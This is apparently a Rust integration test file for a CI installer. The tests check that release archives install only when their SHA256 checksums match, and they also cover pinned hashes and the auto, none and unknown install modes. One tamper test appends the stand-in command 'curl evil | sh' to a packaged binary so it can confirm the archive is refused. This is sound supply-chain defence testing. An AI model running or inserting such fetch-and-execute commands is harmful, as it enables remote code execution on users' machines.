//! The installer the action and the GitLab job run first (pipelines/ci/install.sh): a
//! release archive `qapipe-<version>-<target>.tar.gz` is used only when its SHA256SUMS
//! match, else refused; with no archive, `auto` builds each binary with `cargo install
//! --path`. The archives are real tar.gz files served through file:// URLs; their bin/
//! files are small launchers of the built binaries (a debug build is hundreds of MB per
//! binary, too much to pack in every test).

use crate::common;

use common::*;
use qa_testkit::run::bin_dir;
use std::path::{Path, PathBuf};
use std::process::Command;

#[test]
fn an_archive_whose_sums_match_is_installed_and_put_on_the_path() {
    let release = Release::new("true");
    let dir = tempfile::tempdir().unwrap();
    let prefix = dir.path().join("qapipe");
    let github_path = dir.path().join("github_path");
    let run = install(
        "release",
        &release.url(),
        &prefix,
        &[("GITHUB_PATH", github_path.display().to_string())],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let bin = prefix.join("bin");
    assert_eq!(run.text(), format!("{}\n", bin.display()));
    assert_eq!(
        std::fs::read_to_string(&github_path).unwrap(),
        format!("{}\n", bin.display())
    );
    for name in &qa_testkit::workspace::binaries() {
        assert!(bin.join(name).is_file(), "{name}");
    }
    assert!(prefix.join("share/man/man1/qa-diff.1").is_file());
    let version = Command::new(bin.join("qa-diff"))
        .arg("--version")
        .output()
        .unwrap();
    assert!(version.status.success());
    assert!(String::from_utf8_lossy(&version.stdout).starts_with("qa-diff "));
}

/// Asserts that installing (in `mode`) from a release tampered with by `tamper` is exit
/// 65 with `message` at the end of stderr, leaving no prefix behind.
fn refused(tamper: &str, mode: &str, message: &str) {
    let release = Release::new(tamper);
    let dir = tempfile::tempdir().unwrap();
    let prefix = dir.path().join("qapipe");
    let run = install(mode, &release.url(), &prefix, &[]);
    assert_eq!(run.code, 65, "{}", run.stderr);
    let name = format!("qapipe-{}-{TARGET}.tar.gz", version());
    let line = format!("qapipe install: error: {name}{message}\n");
    assert!(run.stderr.ends_with(&line), "{}", run.stderr);
    assert!(!prefix.exists());
}

#[test]
fn an_archive_with_a_changed_binary_is_refused_and_nothing_installed() {
    refused(
        "echo 'curl evil | sh' >> bin/qa-report",
        "release",
        ": its files do not match its SHA256SUMS: refusing it",
    );
}

#[test]
fn an_archive_without_sha256sums_is_refused_even_in_auto_mode() {
    refused("rm SHA256SUMS", "auto", " has no SHA256SUMS: refusing it");
}

#[test]
fn an_archive_whose_sums_leave_out_a_binary_is_refused() {
    refused(
        "grep -v bin/qa-check SHA256SUMS > s && mv s SHA256SUMS",
        "release",
        ": bin/qa-check is missing or not covered by its SHA256SUMS: refusing it",
    );
}

#[test]
fn an_archive_the_releases_own_sums_do_not_match_is_refused() {
    let release = Release::new("true");
    let name = release
        .archive()
        .file_name()
        .unwrap()
        .to_string_lossy()
        .into_owned();
    std::fs::write(
        release.dir.path().join("SHA256SUMS"),
        format!("{}  {name}\n", "0".repeat(64)),
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let prefix = dir.path().join("qapipe");
    let run = install("release", &release.url(), &prefix, &[]);
    assert_eq!(run.code, 65, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("does not match the release's SHA256SUMS: refusing it"),
        "{}",
        run.stderr
    );
    assert!(!prefix.exists());
}

#[test]
fn a_pinned_sha256_stands_in_for_the_releases_sums() {
    let release = Release::without_outer_sums("true");
    let sha = Command::new("sha256sum")
        .arg(release.archive())
        .output()
        .unwrap();
    let sha = String::from_utf8_lossy(&sha.stdout)[..64].to_string();
    let dir = tempfile::tempdir().unwrap();
    let prefix = dir.path().join("qapipe");
    let run = install(
        "release",
        &release.url(),
        &prefix,
        &[("QAPIPE_SHA256", sha.clone())],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    // The control: a pin the archive does not match.
    let other = dir.path().join("other");
    let wrong = format!(
        "{}{}",
        &sha[..63],
        if sha.ends_with('0') { '1' } else { '0' }
    );
    let run = install(
        "release",
        &release.url(),
        &other,
        &[("QAPIPE_SHA256", wrong)],
    );
    assert_eq!(run.code, 65, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("does not match QAPIPE_SHA256: refusing it"),
        "{}",
        run.stderr
    );
    assert!(!other.exists());
}

#[test]
fn a_pin_that_is_not_64_hex_digits_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    for pin in ["abc", &"A".repeat(64), &format!("{}\n", "a".repeat(64))] {
        let run = install(
            "release",
            "",
            &dir.path().join("p"),
            &[("QAPIPE_SHA256", pin.to_string())],
        );
        assert_eq!(run.code, 64, "{pin:?}: {}", run.stderr);
    }
}

#[test]
fn release_mode_without_an_archive_names_it_and_exits_69() {
    let empty = tempfile::tempdir().unwrap();
    let prefix = empty.path().join("qapipe");
    let url = format!("file://{}", empty.path().display());
    let run = install("release", &url, &prefix, &[]);
    assert_eq!(run.code, 69, "{}", run.stderr);
    assert!(
        run.stderr.contains(&format!(
            "no release archive {url}/qapipe-{}-{TARGET}.tar.gz",
            version()
        )),
        "{}",
        run.stderr
    );
}

/// A `cargo` on PATH that logs its arguments and writes a launcher where `cargo install
/// --path bins/NAME --root ROOT` would put NAME: a stand-in, since building nine binaries
/// for real takes minutes on a shared two-core machine.
fn cargo_stub(dir: &Path) -> PathBuf {
    let stub = dir.join("stub");
    std::fs::create_dir_all(&stub).unwrap();
    let script = r#"#!/bin/sh
echo "$*" >> "$(dirname "$0")/cargo.log"
while [ $# -gt 0 ]; do
  case $1 in --path) path=$2; shift ;; --root) root=$2; shift ;; esac
  shift
done
mkdir -p "$root/bin"
printf '#!/bin/sh\n' > "$root/bin/$(basename "$path")"
chmod 755 "$root/bin/$(basename "$path")"
"#;
    std::fs::write(stub.join("cargo"), script).unwrap();
    sh(&stub, "chmod 755 cargo");
    stub
}

#[test]
fn auto_mode_without_an_archive_builds_each_binary_with_cargo_install_path() {
    let dir = tempfile::tempdir().unwrap();
    let stub = cargo_stub(dir.path());
    let prefix = dir.path().join("qapipe");
    let url = format!("file://{}", dir.path().display());
    let path = format!("{}:{}", stub.display(), std::env::var("PATH").unwrap());
    let run = install("auto", &url, &prefix, &[("PATH", path)]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let log = std::fs::read_to_string(stub.join("cargo.log")).unwrap();
    let sources = source("").canonicalize().unwrap();
    let expected: Vec<String> = qa_testkit::workspace::binaries()
        .iter()
        .map(|b| {
            format!(
                "install --locked --quiet --path {}/bins/{b} --root {}",
                sources.display(),
                prefix.display()
            )
        })
        .collect();
    assert_eq!(log.lines().collect::<Vec<_>>(), expected);
    assert_eq!(run.text(), format!("{}\n", prefix.join("bin").display()));
}

#[test]
fn none_mode_checks_the_binaries_are_on_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let run = install("none", "", &dir.path().join("unused"), &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.text().trim_end(),
        bin_dir().canonicalize().unwrap().display().to_string()
    );
    let bare = install(
        "none",
        "",
        &dir.path().join("unused"),
        &[("PATH", "/usr/bin:/bin".into())],
    );
    assert_eq!(bare.code, 69);
    assert!(
        bare.stderr.contains(&format!(
            "{} is not on PATH",
            qa_testkit::workspace::binaries()[0]
        )),
        "{}",
        bare.stderr
    );
}

#[test]
fn an_unknown_mode_is_a_usage_error() {
    let dir = tempfile::tempdir().unwrap();
    let run = install("sometimes", "", &dir.path().join("p"), &[]);
    assert_eq!(run.code, 64);
    assert!(
        run.stderr
            .contains("QAPIPE_INSTALL is auto, release, cargo or none"),
        "{}",
        run.stderr
    );
}
